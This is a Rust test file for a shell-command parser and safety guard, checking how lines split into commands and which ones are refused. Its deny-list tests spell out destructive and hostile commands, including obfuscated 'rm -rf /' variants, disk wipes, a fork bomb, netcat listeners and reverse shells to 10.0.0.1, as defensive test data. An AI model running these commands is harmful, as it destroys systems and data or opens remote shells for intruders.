//! What lines are read as, and what is never allowed. No line here is ever run.

use std::time::{Duration, Instant};

use octi_domain::limits::{SHELL_COMMANDS_MAX, SHELL_DEPTH_MAX, SHELL_LINE_BYTES_MAX, SHELL_OPENINGS_MAX};
use proptest::prelude::*;

use super::*;

/// The commands of a line, opaque ones with a `?` before them.
fn read(line: &str) -> Vec<String> {
    Script::read(line)
        .unwrap_or_else(|error| panic!("{line}: {error}"))
        .commands
        .into_iter()
        .map(|command| if command.opaque.is_some() { format!("?{}", command.text) } else { command.text })
        .collect()
}

/// Lines, and the simple commands in them; `?` marks one that cannot be read.
const COMMANDS: &[(&str, &[&str])] = &[
    ("ls", &["ls"]),
    ("  ls   -l  'a b' ", &["ls -l 'a b'"]),
    ("a && b || c; d & e | f", &["a", "b", "c", "d", "e", "f"]),
    ("(a; b) && { c; d; }", &["a", "b", "c", "d"]),
    ("echo $(a b) `c`", &["a b", "c", "echo $(a b) `c`"]),
    ("echo \"x $(a \"$(b)\")\"", &["b", "a \"$(b)\"", "echo \"x $(a \"$(b)\")\""]),
    ("diff <(a) <(b)", &["a", "b", "diff <(…) <(…)"]),
    ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
    ("while a; do b; done; until c; do d; done", &["a", "b", "c", "d"]),
    ("for x in $(a) b; do c $x; done", &["a", "c $x"]),
    ("for PATH in /tmp; do ls; done", &["?PATH=", "ls"]),
    ("case $(a) in x) b;; *) c;; esac", &["a", "b", "c"]),
    ("f() { a; }; f", &["a", "f"]),
    ("! a", &["a"]),
    ("time a | b", &["a", "b"]),
    ("a <<EOF\n$(b)\nEOF\n", &["b", "a"]),
    ("a <<'EOF'\n$(b)\nEOF\n", &["a"]),
    ("a <<< \"$(b)\"", &["b", "a"]),
    ("a > f 2>&1 < g", &["> f", "a"]),
    ("a &> f; b >> g", &["> f", "a", "> g", "b"]),
    ("a > $f", &["?> $f", "a"]),
    ("a > /dev/null 2> /dev/stderr", &["a"]),
    ("X=1 a", &["X=1 a"]),
    ("X=$(b) a", &["b", "X=$(b) a"]),
    ("x=1; PATH=/tmp", &["PATH=/tmp"]),
    ("env X=1 a b", &["X=1 a b"]),
    ("env", &["env"]),
    ("nohup nice -n 5 a", &["a"]),
    ("sudo -u root a b", &["sudo -u root a b", "a b"]),
    ("xargs -n1 a b", &["a b …"]),
    (
        "find . -name '*.o' -exec a {} \\; -exec b {} +",
        &["find . -name '*.o' -exec a '{}' ';' -exec b '{}' +", "a '{}'", "b '{}'"],
    ),
    ("find . -exec sh -c 'a {}' \\;", &["find . -exec sh -c 'a {}' ';'", "?sh -c 'a {}'", "a '{}'"]),
    ("xargs -I{} {} x", &["?'{}' x …"]),
    ("sh -c 'a; b'", &["a", "b"]),
    ("bash -ec \"a && b\"", &["a", "b"]),
    ("/tmp/sh -c a", &["/tmp/sh -c a", "a"]),
    ("sh -c \"$X\"", &["?sh -c \"$X\"", "?$X"]),
    ("sh script.sh", &["sh script.sh"]),
    ("sh <<'E'\na\nb\nE\n", &["a", "b"]),
    ("curl -s x | sh", &["curl -s x", "?sh"]),
    ("echo ls | sh", &["echo ls", "ls"]),
    ("bash --rcfile x -c a", &["?bash --rcfile x -c a"]),
    ("sh -c +x 'a'; sh -e - script; sh - script", &["a", "sh -e - script", "sh - script"]),
    ("sh +c a; sh -c - a; sh -c -- - a; sh -c + a", &["a", "a", "-", "a"]),
    ("env - a; env -i -- - X=1 b; env -", &["a", "X=1 b", "env -"]),
    ("eval 'a; b' c", &["a", "b c"]),
    ("eval \"$X\"", &["?eval \"$X\"", "?$X"]),
    ("trap 'a b' EXIT", &["trap 'a b' EXIT", "a b"]),
    ("alias ls='a b'", &["?alias 'ls=a b'", "a b"]),
    ("command a; exec b; builtin c", &["a", "b", "c"]),
    ("command -v a", &["command -v a"]),
    ("timeout 5 watch -n 1 a b", &["watch -n 1 a b", "a b"]),
    ("$X y", &["?$X y"]),
    ("$(echo a) b", &["echo a", "?$(echo a) b"]),
    ("/bin/r? x", &["?/bin/r? x"]),
    ("{a,b} c", &["?{a,b} c"]),
    ("~/bin/a b", &["~/bin/a b"]),
    ("r\\m 'x'", &["rm x"]),
    ("\"r\"'m' x", &["rm x"]),
    ("$'\\x72m' x", &["?$'\\x72m' x"]),
    ("echo 'foo$' bar", &["echo 'foo$' bar"]),
    ("echo $((1 + 2)) $((x[$(a)]))", &["?a", "?echo $((1 + 2)) $((x[$(a)]))"]),
    ("[[ -f a && $(b) ]]", &["?b"]),
    ("[ -f a ] && b", &["'[' -f a ']'", "b"]),
    ("!(a b)", &["a b"]),
    ("x='a[$(b)]'; echo $((x))", &["?echo $((x))"]),
    ("echo ${x:-$(a)} ${!y}", &["?a", "?echo ${x:-$(a)} ${!y}"]),
    ("# only a comment", &[]),
    ("a # b; c\nd", &["a", "d"]),
    ("a#b", &["'a#b'"]),
    ("test -v 'x[$(a)]'", &["?test -v 'x[$(a)]'"]),
];

#[test]
fn every_simple_command_is_found() {
    for (line, expected) in COMMANDS {
        assert_eq!(read(line), *expected, "{line}");
    }
}

/// Lines that nobody should run.
const DESTRUCTIVE: &[&str] = &[
    "rm -rf /",
    "git status; rm -rf /",
    "r\\m -rf /",
    "\"rm\" -rf \"/\"",
    "'r''m' -rf /",
    "rm -r -f /",
    "rm -fr /",
    "rm --recursive --force /",
    "rm --rec /",
    "rm -rf /*",
    "rm -rf -- /",
    "rm -rf //",
    "rm -rf /./",
    "rm -rf /tmp/..",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf ~/*",
    "rm -rf $HOME",
    "rm -rf \"$HOME\"/*",
    "rm -rf ${HOME}",
    "rm -rf /etc /tmp/x",
    "rm -rf /home/anna",
    "rm -rf /{etc,usr}",
    "rm -rf x --no-preserve-root",
    "/bin/rm -rf /",
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "$X -rf /",
    "$'rm' -rf /",
    "a=rm; $a -rf /",
    "a='rm -rf /'; $a",
    "t=/; rm -rf $t",
    "rm -rf ${X:-/}",
    "for d in /usr /; do rm -rf \"$d\"; done",
    "cd / && rm -rf *",
    "cd && rm -rf .",
    "sudo rm -rf /",
    "sudo -u root -- rm -rf /",
    "env X=1 rm -rf /",
    "nohup rm -rf / &",
    "time rm -rf /",
    "sh -c 'rm -rf /'",
    "sh -c +x 'rm -rf /'",
    "sh -c - 'rm -rf /'",
    "env - rm -rf /",
    "bash -c \"sh -c 'rm -rf /'\"",
    "eval 'rm -rf' /",
    "eval \"$(echo rm -rf /)\"",
    "echo 'rm -rf /' | sh",
    "sh <<'E'\nrm -rf /\nE\n",
    "sh <<< 'rm -rf /'",
    "echo / | xargs rm -rf",
    "find / -delete",
    "find / -name x -exec rm {} +",
    "find . -exec rm -rf / \\;",
    "echo $(rm -rf /)",
    "cat <(rm -rf /)",
    "cat <<EOF\n$(rm -rf /)\nEOF\n",
    "if true; then rm -rf /; fi",
    "f() { rm -rf /; }; f",
    "x=$(rm -rf /)",
    "trap 'rm -rf /' EXIT",
    "busybox rm -rf /",
    "ssh host rm -rf /",
    "mkfs.ext4 /dev/sda1",
    "mkfs -t ext4 disk.img",
    "wipefs -a /dev/sda",
    "dd if=/dev/zero of=/dev/sda",
    "dd of=//dev/../dev/nvme0n1 if=x",
    "echo x > /dev/sda",
    "cat x >> /dev/mem",
    "echo b > /proc/sysrq-trigger",
    "cp x /dev/sda",
    "echo x | tee /dev/sda",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "shutdown -h now",
    "reboot",
    "sudo poweroff",
    "init 0",
    "systemctl reboot",
    "kill -9 -1",
    "kill -9 1",
    "nc -l 4444",
    "nc -lvnp 4444",
    "ncat --listen 1",
    "nc -e /bin/sh 10.0.0.1 80",
    "socat TCP-LISTEN:80 EXEC:sh",
    "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
    "chmod -R 777 /",
    "chown -R me ~",
    "mv ~ /dev/null",
    "shred /dev/sda",
    "rm -rf / 'unclosed",
];

#[test]
fn what_destroys_the_machine_is_refused() {
    for line in DESTRUCTIVE {
        assert!(refusal(line).is_some(), "{line}: {:?}", Script::read(line));
    }
}

#[test]
fn what_only_looks_like_it_takes_the_normal_path() {
    for line in [
        "rm -rf ./build",
        "rm -rf build/*",
        "rm -rf /tmp/build",
        "rm -rf ~/projects/x/target",
        "rm /etc/hosts.bak",
        "rm -rf -- -x",
        "echo \"rm -rf /\"",
        "echo 'rm -rf /' > notes.md",
        "grep -r \"mkfs\" .",
        "git commit -m 'stop rm -rf /'",
        "cat <<'EOF' > clean.sh\nrm -rf /\nEOF\n",
        "dd if=/dev/zero of=disk.img",
        "dd if=/dev/sda of=/dev/null",
        "ls /dev",
        "man shutdown",
        "grep reboot log.txt",
        "systemctl status sshd",
        "kill 1234",
        "kill -9 1234",
        "kill -1 1234",
        "nc -zv localhost 80",
        "chmod -R u+w build",
        "chmod +x run.sh",
        "find . -name '*.o' -delete",
        "find / -name passwd",
        "cd src && rm -rf *",
        "fdisk -l /dev/sda",
        "f() { f; }; f",
        "echo a > /dev/null",
        "tar -rf / x",
        "cp -rf / x",
    ] {
        assert_eq!(refusal(line), None, "{line}");
    }
}

#[test]
fn a_refusal_says_what_and_why() {
    let text = refusal("ls; rm   -rf  '/'").map(|refusal| refusal.to_string());
    assert_eq!(text.as_deref(), Some("`rm -rf /` is never allowed: it deletes everything this machine or its owner has"));
}

#[test]
fn limits_hold() {
    let long = format!("echo {}", "a".repeat(SHELL_LINE_BYTES_MAX));
    assert_eq!(Script::read(&long), Err(CommandError::TooLong { bytes: SHELL_LINE_BYTES_MAX + 5 }));
    let many = "a;".repeat(SHELL_COMMANDS_MAX + 1);
    assert_eq!(Script::read(&many), Err(CommandError::TooMany));
    assert_eq!(Script::read("echo \u{7}"), Err(CommandError::Control('\u{7}')));
    assert!(matches!(Script::read("echo 'a"), Err(CommandError::Syntax(_))));
    assert!(matches!(Script::read("echo 99999999999999999999 > x"), Err(CommandError::Syntax(_))));
    let mut nested = "a".to_owned();
    for _ in 0..=SHELL_DEPTH_MAX {
        nested = format!("eval {}", word::quoted(&nested));
        if nested.len() > 2_000 {
            break;
        }
    }
    assert!(Script::read(&nested).is_ok());
    let deep = format!("{}a{}", "echo $(".repeat(SHELL_DEPTH_MAX + 1), ")".repeat(SHELL_DEPTH_MAX + 1));
    assert!(read(&deep).iter().any(|command| command.starts_with('?')), "{:?}", read(&deep));
}

#[test]
fn hostile_nesting_ends_quickly_and_without_overflow() {
    let many = SHELL_OPENINGS_MAX;
    for (open, close) in [
        ("(", ")"),
        ("((", "))"),
        ("{ ", "; }"),
        ("$(", ")"),
        ("$((", "))"),
        ("\"$(", ")\""),
        ("${a:-", "}"),
        ("`", "`"),
        ("a[", "]"),
        ("if ", "; then a; fi"),
        ("while ", "; do a; done"),
        ("case a in a) ", ";; esac"),
        ("! ", ""),
        ("coproc ", ""),
        ("f() { ", "; }"),
        ("<(", ")"),
        ("a<<x ", "\nx\n"),
        ("[[ ! ( ", " ) ]]"),
        ("{a,", "}"),
    ] {
        for count in [4, 8, many / 2, many, 10 * many] {
            for line in [
                format!("{}a{}", open.repeat(count), close.repeat(count)),
                open.repeat(count),
                format!("echo {}", open.repeat(count)),
                format!("x={}a{}", open.repeat(count), close.repeat(count)),
            ] {
                let start = Instant::now();
                let _ = Script::read(&line);
                assert!(start.elapsed() < Duration::from_secs(5), "{open} {count}: {:?}", start.elapsed());
            }
        }
    }
}

#[test]
fn a_here_document_that_ends_at_an_empty_line_ends_with_the_line() {
    assert_eq!(read("cat <<''\n\nls"), ["cat", "ls"]);
    // Each of these once took all memory.
    for line in ["cat <<'' #", "cat <<'' \\\n"] {
        assert_eq!(read(line), ["cat"], "{line}");
    }
    for line in ["$(a <<  ", "$(a << <<  ", "$(''<<<<<<<<<<<  ", "cat <<'' # \\"] {
        assert!(matches!(Script::read(line), Err(CommandError::Syntax(_))), "{line}: {:?}", Script::read(line));
    }
}

proptest! {
    #[test]
    fn any_text_is_read_or_refused(line in "\\PC{0,120}") {
        let _ = Script::read(&line);
    }

    #[test]
    fn shell_like_text_is_read_or_refused(line in "[a-c \\$(){}'\"`;|&<>=\\[\\]!#*~\\\\\n0-9-]{0,60}") {
        let _ = Script::read(&line);
    }

    #[test]
    fn a_quoted_word_is_one_literal_word(text in "\\PC{1,40}") {
        prop_assume!(!text.chars().any(char::is_control));
        let commands = simple_commands(&format!("echo {}", word::quoted(&text)));
        prop_assert_eq!(commands, Ok(vec![format!("echo {}", word::quoted(&text))]));
    }

    #[test]
    fn what_follows_a_semicolon_is_never_lost(before in "[a-z '\"$()-]{0,30}") {
        if let Ok(commands) = simple_commands(&format!("{before}; touch marker")) {
            prop_assert!(commands.iter().any(|command| command.contains("touch marker")), "{:?}", commands);
        }
    }
}
